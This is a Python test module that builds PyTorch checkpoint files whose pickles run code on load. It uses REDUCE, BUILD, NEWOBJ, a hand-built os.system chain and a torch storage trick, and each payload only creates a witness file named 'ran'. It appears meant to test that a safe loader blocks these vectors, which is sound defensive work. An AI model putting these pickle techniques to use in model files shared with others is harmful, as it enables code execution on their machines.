"""Files that were made to hurt whoever reads them."""

from __future__ import annotations

import pickle
import struct
import zipfile
from contextlib import suppress
from pathlib import Path
from typing import Any

import torch

WITNESS = Path('ran')  # what the code in these files makes, in the folder where it is run

# numpy.dtype('f8', False, True) and its state, as a pickle says them
_STATE = b'(K\x03X\x01\x00\x00\x00<NNNJ' + b'\xff' * 4 + b'J' + b'\xff' * 4 + b'K\x00tb'
DTYPE = b'cnumpy\ndtype\nX\x02\x00\x00\x00f8\x89\x88\x87R' + _STATE
ONE = struct.pack('<d', 1.0).decode('latin1').encode()  # as text


def named(module: str, name: str) -> bytes:
    """The beginning of a pickle that names something."""
    return f'\x80\x02c{module}\n{name}\n'.encode('latin1')


def encoded(text: bytes) -> bytes:
    return b'c_codecs\nencode\nX' + struct.pack('<I', len(text)) + text + b'X\x06\x00\x00\x00latin1\x86R'


def array(dtype: bytes, shape: bytes = b'K\x01\x85', data: bytes = ONE) -> bytes:
    """The pickle of a numpy array of one number."""
    make = named('numpy._core.multiarray', '_reconstruct') + b'cnumpy\nndarray\nK\x00\x85' + encoded(b'b') + b'\x87R'
    return make + b'(K\x01' + shape + dtype + b'\x89' + encoded(data) + b'tb.'


def archive(path: str | Path, content: bytes, data: bytes = bytes(16), gap: bytes = b'') -> None:
    """A ``.pth`` file with a pickle of one's own."""
    with zipfile.ZipFile(path, 'w') as made:
        made.writestr('a/version', b'3')
        made.writestr('a/data.pkl', content)
        if gap:
            made.writestr('a/gap', gap)
        made.writestr('a/data/0', data)


class Reduced:
    """Code by REDUCE."""

    def __reduce__(self) -> Any:
        import os

        return os.system, (f'touch {WITNESS}',)


class Built:
    """Code by BUILD, which calls ``__setstate__``."""

    def __getstate__(self) -> Any:
        return {'a': 1}

    def __setstate__(self, state: Any) -> None:
        WITNESS.touch()


class Made:
    """Code by NEWOBJ, which calls ``__new__``."""

    def __new__(cls, *where: str) -> Made:
        for path in where:
            Path(path).touch()
        return super().__new__(cls)

    def __getnewargs__(self) -> Any:
        return (str(WITNESS),)


def _word(text: str) -> bytes:
    return b'X' + struct.pack('<I', len(text)) + text.encode()


_CHAIN = (  # getattr(__import__('os'), 'system')('touch ran')
    named('builtins', 'getattr')
    + named('builtins', '__import__')[2:]
    + _word('os')
    + b'\x85R'
    + _word('system')
    + b'\x86R'
    + _word(f'touch {WITNESS}')
    + b'\x85R.'
)
# a storage whose type is what code gives
_STORAGE = (
    named('torch._utils', '_rebuild_tensor_v2')
    + b'('
    + b'('
    + _word('storage')
    + named('posix', 'system')[2:]
    + _word(f'touch {WITNESS}')
    + b'\x85R'
    + _word('0')
    + _word('cpu')
    + b'K\x04tQK\x00K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtR.'
)


def attacks(folder: Path) -> list[Path]:
    """Files whose pickles run code that makes :data:`WITNESS`, by all the ways there are."""
    weights = {'w': torch.ones(4)}
    for zipped in (True, False):
        for attack in (Reduced(), Built(), Made()):
            content = {'meta': {'x': attack}, 'state_dict': weights}
            path = folder / f'{type(attack).__name__}{"" if zipped else "_old"}.pth'
            torch.save(content, path, _use_new_zipfile_serialization=zipped)
    for name, content in (('chain', _CHAIN), ('storage', _STORAGE)):
        archive(folder / f'{name}.pth', content)
    (folder / 'bare.pth').write_bytes(pickle.dumps({'state_dict': Reduced()}, 2))
    return sorted(folder.glob('*.pth'))


def runs_here(path: Path) -> bool:
    """Whether a file runs its code in a reader that lets it, as a control."""
    WITNESS.unlink(missing_ok=True)
    with suppress(Exception):  # what it makes is of no use, and the code has run
        torch.load(path, 'cpu', weights_only=False)
    found = WITNESS.exists()
    WITNESS.unlink(missing_ok=True)
    return found
